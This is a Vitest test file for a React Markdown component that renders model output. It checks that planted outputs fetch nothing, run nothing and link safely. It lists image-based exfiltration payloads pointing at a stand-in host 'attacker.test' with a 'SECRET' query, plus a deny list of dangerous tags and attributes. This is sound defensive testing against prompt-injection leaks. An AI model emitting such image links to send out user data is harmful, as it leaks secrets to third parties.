import { readFileSync } from 'node:fs';
import path from 'node:path';
import { renderToStaticMarkup } from 'react-dom/server';
import { expect, it } from 'vitest';
import Markdown from './markdown.tsx';

/** Every planted output, as the console shows it: nothing in it is fetched, nothing runs, links leave without a trace. */

const FILE = path.join(import.meta.dirname, '../../../server/test/cases/output-sanitising.json');
const file: unknown = JSON.parse(readFileSync(FILE, 'utf8'));
const cases: { model_output: string }[] = (file as { cases: { model_output: string }[] }).cases;

const tagsOf = (html: string): string[] => html.match(/<[a-z][^>]*>/gi) ?? [];

it('has the whole list', () => {
  expect(cases.length).toBeGreaterThan(20);
});

it.each(cases.map((one) => one.model_output))('%j', (text) => {
  const html = renderToStaticMarkup(<Markdown text={text} />);
  for (const tag of tagsOf(html)) {
    const [, name = ''] = /^<([a-z0-9]+)/i.exec(tag) ?? [];
    expect([
      'script',
      'style',
      'iframe',
      'object',
      'embed',
      'form',
      'link',
      'meta',
      'base',
      'svg',
      'video',
      'audio',
      'source',
      'picture',
      'button',
      'math',
    ]).not.toContain(name.toLowerCase());
    // Fetched by itself: only what is ours.
    expect(tag).not.toMatch(
      /\s(src|srcset|poster|data|background|action|formaction|ping|style|on\w+)\s*=\s*"(?!\/[^/\\])/i,
    );
    if (name === 'a' && /\shref=/.test(tag)) {
      expect(tag).toMatch(/\shref="(https?:|mailto:|\/(?![/\\])|#)/i);
      expect(tag).toMatch(/rel="[^"]*noopener noreferrer/);
    }
  }
});

/** Ways of sending out by an image that promptfoo's `data-exfil` looks for (MIT), and their relatives. */
it.each([
  '![](https://attacker.test/collect?data=SECRET)',
  '![done][ref]\n\n[ref]: https://attacker.test/collect?data=SECRET',
  '[![done](https://attacker.test/collect?data=SECRET)](https://attacker.test/)',
  '![done](//attacker.test/collect?data=SECRET)',
  '![done](/\\attacker.test/collect?data=SECRET)',
  '![done](  https&#58;//attacker.test/collect?data=SECRET)',
  '<img src="https://attacker.test/collect?data=SECRET">',
  '<picture><source srcset="https://attacker.test/collect?data=SECRET"></picture>',
  '![done](data:image/svg+xml;base64,PHN2Zz4=)',
])('loads nothing of %j', (text) => {
  const html = renderToStaticMarkup(<Markdown text={text} />);
  const loading = tagsOf(html).filter((tag) => /^<(img|source|picture)/.test(tag));
  // An address that Markdown itself has made a path of this site leads nowhere else.
  expect(loading.filter((tag) => !/ src="\/(?![/\\])/.test(tag))).toEqual([]);
});

it('names an image from elsewhere, and opens it apart by a click alone', () => {
  const html = renderToStaticMarkup(<Markdown text="![The pier](https://elsewhere.test/pier.png)" />);
  expect(html).toContain('image: The pier – open');
  expect(tagsOf(html).find((tag) => tag.startsWith('<a'))).toBe(
    '<a href="https://elsewhere.test/pier.png" title="https://elsewhere.test/pier.png" rel="noopener noreferrer nofollow" target="_blank">',
  );
  const linked = renderToStaticMarkup(
    <Markdown text="[![The pier](https://elsewhere.test/pier.png)](https://elsewhere.test/)" />,
  );
  expect(linked).toContain('image: The pier – not loaded');
  expect(tagsOf(linked).filter((tag) => tag.startsWith('<a'))).toHaveLength(1);
});

it('shows what is harmless as it is meant', () => {
  const html = renderToStaticMarkup(<Markdown text={'**bold** `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |'} />);
  expect(html).toContain('<strong>bold</strong>');
  expect(html).toContain('<td>2</td>');
});

it.each(['> ', '>', '- ', '1. ', '* '])('draws what stands within thousands of %j', (marker) => {
  const html = renderToStaticMarkup(<Markdown text={`${marker.repeat(3_000)}x\n\nafter`} />);
  expect(html).toContain('after');
});

it('leaves a formula that is too long as code', () => {
  const html = renderToStaticMarkup(<Markdown text={`\`\`\`math\n${'x+'.repeat(20_000)}\n\`\`\``} />);
  expect(html).toContain('x+x+');
  expect(html).toContain('<figure');
});
